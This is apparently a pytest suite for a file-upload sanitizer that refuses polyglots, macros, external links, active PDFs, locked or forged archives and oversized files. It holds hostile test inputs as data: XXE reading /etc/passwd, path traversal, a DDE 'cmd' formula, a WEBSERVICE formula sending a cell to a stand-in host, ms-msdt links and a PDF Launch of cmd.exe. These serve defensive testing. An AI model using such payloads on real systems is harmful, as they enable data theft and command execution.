"""What is not taken, each with its code: polyglots, programs within documents, links that fetch, locks, damage."""

import io
import zipfile

import pytest
from openpyxl import Workbook
from pypdf import PdfReader, PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, PdfObject, TextStringObject

from qorgan.uploads import clean
from qorgan.uploads.limits import DEFAULT, Limits
from qorgan.uploads.refusal import CODES, Params, UploadRefused
from tests.uploads import made

ZIP = made.packed({"a.txt": "a"})
SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">{}</svg>'
FIELD = (
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> D</w:instrText></w:r></w:p>'
    "<w:p><w:r><w:instrText>DEAUTO c</w:instrText></w:r></w:p>"
)
KINDS = {
    "GIF": b"GIF89a\1\0\1\0\0\0\0;",
    "HEIC": b"\0\0\0\x18ftypheic\0\0\0\0",
    "MP4": b"\0\0\0\x18ftypisom\0\0\0\0",
    "RTF": b"{\\rtf1 hello}",
    "DOC, XLS": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512),
    "EXE": b"MZ\x90\0" + bytes(64),
    "GZIP": b"\x1f\x8b\x08\x08\0\0\0\0\0\xff../../etc/passwd\0",
    "HTML, XML": b"\xef\xbb\xbf  <!DOCTYPE html><script>alert(1)</script>",
    "ZIP": ZIP,
}


def refused(content: bytes, limits: Limits = DEFAULT) -> tuple[str, Params]:
    """Why a file is not taken."""
    with pytest.raises(UploadRefused) as caught:
        clean.clean(content, limits)
    return caught.value.code, caught.value.params


@pytest.mark.parametrize("found", KINDS)
def test_a_kind_that_is_not_on_the_list_is_told_by_name(found: str) -> None:
    code, params = refused(KINDS[found])
    assert (code, params["found"]) == ("upload.kind_not_taken", found)


@pytest.mark.parametrize("content", [b"\0\1\2\3" * 20, b"PK\5\6" + bytes(18), b"\x89PNX"])
def test_bytes_that_are_nothing_are_not_taken(content: bytes) -> None:
    assert refused(content)[0] in {"upload.kind_unknown", "upload.text_control", "upload.text_encoding"}


@pytest.mark.parametrize("content", [made.photo("JPEG"), made.photo("PNG"), made.pdf()], ids=["jpeg", "png", "pdf"])
def test_a_file_that_is_an_archive_as_well_is_not_taken(content: bytes) -> None:
    code, params = refused(content + ZIP)
    assert (code, params["found"]) == ("upload.two_kinds", "ZIP")


def test_an_archive_behind_something_else_is_not_taken() -> None:
    assert refused(b"#!/bin/sh\n" + made.docx())[0] == "upload.kind_not_taken"
    assert refused(made.docx() + b"\n<script>")[0] == "upload.unreadable"
    assert refused(ZIP[:-22] + made.docx())[0] == "upload.unreadable"


@pytest.mark.parametrize(
    "content",
    [
        made.photo("JPEG"),
        made.photo("PNG"),
        made.photo("WEBP"),
        made.photo("TIFF"),
        made.pdf(),
        made.docx(),
        made.odt(),
    ],
    ids=["jpeg", "png", "webp", "tiff", "pdf", "docx", "odt"],
)
@pytest.mark.parametrize("part", [0.3, 0.6, 0.9])
def test_a_file_that_was_cut_off_is_not_taken(content: bytes, part: float) -> None:
    assert refused(content[: int(len(content) * part)])[0] == "upload.unreadable"


@pytest.mark.parametrize(
    ("code", "content"),
    [
        ("upload.macros", made.docx(more={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})),
        ("upload.macros", made.docx(more={"word/_rels/document.xml.rels": made.relations("vbaProject,x.xml")})),
        ("upload.embedded", made.docx(more={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"})),
        ("upload.embedded", made.docx(more={"word/embeddings/book.xlsx": made.xlsx()})),
        ("upload.embedded", made.docx(more={"word/media/image1.png": ZIP})),
        ("upload.embedded", made.docx(more={"word/a.html": b"<script>"})),
        ("upload.embedded", made.docx(more={"word/a.txt": b"X5O!P%@AP"})),
        ("upload.embedded", made.docx(more={"word/fonts/a.ttf": b"MZ"})),
        ("upload.external", made.docx(more={"word/_rels/settings.xml.rels": made.relations("attachedTemplate,http://a.b/t.dotm,External")})),
        ("upload.external", made.docx(more={"word/_rels/document.xml.rels": made.relations("image,http://a.b/p.png,External")})),
        ("upload.external", made.docx(more={"word/_rels/document.xml.rels": made.relations("hyperlink,file:///c:/a.exe,External")})),
        ("upload.external", made.docx(more={"word/_rels/document.xml.rels": made.relations("hyperlink,\\\\host\\a,External")})),
        ("upload.external", made.docx(more={"word/_rels/document.xml.rels": made.relations("hyperlink,ms-msdt:/id,External")})),
        ("upload.external", made.docx(FIELD)),
        ("upload.external", made.docx('<w:fldSimple w:instr="INCLUDEPICTURE http://a.b/p"/>')),
        ("upload.external", made.docx(more={"word/media/i.svg": SVG.format('<image xlink:href="http://a.b/p"/>')})),
        ("upload.macros", made.docx(more={"word/media/i.svg": SVG.format("<script>a</script>")})),
        ("upload.macros", made.docx(more={"word/media/i.svg": SVG.format('<g onload="a"/>')})),
        ("upload.macros", made.odt('<script:event-listener script:language="ooo:script"/>')),
        ("upload.macros", made.odt(more={"Basic/Standard/Module1.xml": "<m/>"})),
        ("upload.macros", made.odt(more={"Scripts/python/a.py": "x"})),
        ("upload.embedded", made.odt(more={"Object 1": b"\xd0\xcf\x11\xe0"})),
        ("upload.embedded", made.odt("<draw:plugin/>")),
        ("upload.external", made.odt('<draw:image xlink:href="http://a.b/p"/>')),
        ("upload.external", made.odt('<draw:image xlink:href="../../etc/passwd"/>')),
        ("upload.external", made.odt('<text:a xlink:href="vnd.sun.star.script:a"/>')),
        ("upload.external", made.odt("<text:dde-connection-decl/>")),
        ("upload.encrypted", made.odt(more={"META-INF/manifest.xml": "<m><encryption-data/></m>"})),
        ("upload.unreadable", made.docx(more={"../../x.xml": "<a/>"})),
        ("upload.unreadable", made.docx(more={"word/DOCUMENT.xml": "<a/>"})),
        ("upload.unreadable", made.docx(more={"word/a.xml": "<a><b></a>"})),
        ("upload.unreadable", made.docx(more={"word/a.xml": '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'})),
    ],
)  # fmt: skip
def test_an_office_file_that_does_more_than_say_something_is_not_taken(code: str, content: bytes) -> None:
    assert refused(content)[0] == code


@pytest.mark.parametrize(
    "formula", ['=WEBSERVICE("http://a.b/"&A1)', "=cmd|'/c calc'!A0", '=_xlfn.IMAGE("http://a.b")']
)
def test_a_formula_that_fetches_is_not_taken(formula: str) -> None:
    book, target = Workbook(), io.BytesIO()
    book.worksheets[0]["A1"] = formula
    book.save(target)
    assert refused(target.getvalue())[0] == "upload.external"


@pytest.mark.parametrize(
    ("code", "name", "value"),
    [
        ("upload.pdf_active", "OpenAction", made.action("JavaScript", JS=TextStringObject("app.alert(1)"))),
        ("upload.pdf_active", "OpenAction", made.action("Launch", F=TextStringObject("cmd.exe"))),
        ("upload.pdf_active", "OpenAction", made.action("URI", URI=TextStringObject("https://a.b/"))),
        ("upload.pdf_active", "AA", DictionaryObject({NameObject("/WC"): made.action("SubmitForm")})),
        ("upload.pdf_active", "Names", DictionaryObject({NameObject("/JavaScript"): ArrayObject()})),
        ("upload.pdf_active", "AcroForm", DictionaryObject({NameObject("/XFA"): ArrayObject()})),
        ("upload.embedded", "Names", DictionaryObject({NameObject("/EmbeddedFiles"): ArrayObject()})),
        ("upload.embedded", "X", DictionaryObject({NameObject("/EF"): DictionaryObject()})),
        ("upload.external", "X", made.action("URI", URI=TextStringObject("file://host/share"))),
        ("upload.external", "X", made.action("URI", URI=TextStringObject("javascript:a"))),
    ],
)
def test_a_pdf_that_acts_or_carries_something_is_not_taken(code: str, name: str, value: PdfObject) -> None:
    assert refused(made.pdf_with(name, value))[0] == code


def test_what_a_pdf_hides_behind_a_reference_is_found() -> None:
    writer, target = PdfWriter(clone_from=PdfReader(io.BytesIO(made.pdf()))), io.BytesIO()
    kind = writer._add_object(NameObject("/Launch"))  # noqa: SLF001 -- it has no public way to add one
    writer.root_object[NameObject("/X")] = DictionaryObject({NameObject("/S"): kind})
    writer.write(target)
    assert refused(target.getvalue()) == ("upload.pdf_active", {"found": "/Launch"})


def test_a_pdf_that_opens_at_a_page_and_links_to_a_site_is_taken() -> None:
    links = ArrayObject([made.action("URI", URI=TextStringObject("https://example.kz/"))])
    sent = made.pdf(more={"OpenAction": made.action("GoTo", D=ArrayObject([NumberObject(0)])), "X": links})
    assert len(PdfReader(io.BytesIO(clean.clean(sent, DEFAULT).content)).pages) == 1


def test_a_pdf_that_acts_is_not_taken_for_being_signed() -> None:
    writer, target = PdfWriter(clone_from=PdfReader(io.BytesIO(made.signed_pdf()))), io.BytesIO()
    writer.root_object[NameObject("/OpenAction")] = made.action("Launch")
    writer.write(target)
    assert refused(target.getvalue())[0] == "upload.pdf_active"
    assert refused(made.signed_pdf() + b"more")[0] == "upload.unreadable"


def test_a_locked_pdf_is_not_taken() -> None:
    writer, target = PdfWriter(clone_from=PdfReader(io.BytesIO(made.pdf()))), io.BytesIO()
    writer.encrypt("secret", algorithm="RC4-128")
    writer.write(target)
    assert refused(target.getvalue()) == ("upload.encrypted", {"kind": "PDF"})


def test_a_locked_archive_is_not_taken() -> None:
    raw = bytearray(made.docx())
    with zipfile.ZipFile(io.BytesIO(bytes(raw))) as archive:
        start = archive.start_dir
    raw[start + 8] |= 1
    assert refused(bytes(raw))[0] == "upload.encrypted"


def test_members_that_lie_within_each_other_are_not_taken() -> None:
    raw = made.docx()
    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
        start, (first, second, *_) = archive.start_dir, archive.infolist()
    entry = raw.find(b"PK\1\2", start + 4)
    assert raw[entry + 42 : entry + 46] == second.header_offset.to_bytes(4, "little")
    forged = raw[: entry + 42] + first.header_offset.to_bytes(4, "little") + raw[entry + 46 :]
    assert refused(forged)[0] == "upload.unreadable"


@pytest.mark.parametrize("sign", ["\x1b", "\x07", "\x00", "\x7f", "\x9b"])
def test_a_text_with_a_control_sign_is_not_taken_and_its_place_is_told(sign: str) -> None:
    told = {"line": 2, "column": 3, "character": f"U+{ord(sign):04X}"}
    assert refused(f"\ufeffone\nab{sign}[31m".encode("utf-16-le")) == ("upload.text_control", told)


@pytest.mark.parametrize("encoding", ["cp866", "latin-1", "shift_jis"])
def test_a_text_in_a_strange_encoding_is_not_taken_for_another(encoding: str) -> None:
    text = {"cp866": "Следственный изолятор", "latin-1": "café", "shift_jis": "日本語のテキスト"}[encoding]
    assert refused(text.encode(encoding))[0] in {"upload.text_encoding", "upload.text_control"}


def test_limits_hold_at_the_limit_and_not_one_over() -> None:
    photo, scan = made.photo("PNG"), made.pdf(pages=3)
    assert clean.clean(photo, Limits(pixels=64 * 48))
    assert refused(photo, Limits(pixels=64 * 48 - 1))[0] == "upload.too_many_pixels"
    assert clean.clean(scan, Limits(pages=3))
    assert refused(scan, Limits(pages=2)) == ("upload.too_many_pages", {"pages": 3, "limit": 2})
    count = len(made.unpacked(made.docx()))
    assert clean.clean(made.docx(), Limits(parts=count))
    assert refused(made.docx(), Limits(parts=count - 1))[0] == "upload.too_many_parts"
    size = sum(len(part) for part in made.unpacked(made.docx()).values())
    assert clean.clean(made.docx(), Limits(unpacked_bytes=size))
    assert refused(made.docx(), Limits(unpacked_bytes=size - 1))[0] == "upload.unpacks_to_too_much"


def test_a_refusal_is_told_with_its_own_parameters_and_no_others() -> None:
    for code, names in CODES.items():
        assert UploadRefused(code, dict.fromkeys(names, 1)).code == code
        with pytest.raises(ValueError, match="is told with"):
            UploadRefused(code, {"other": 1})
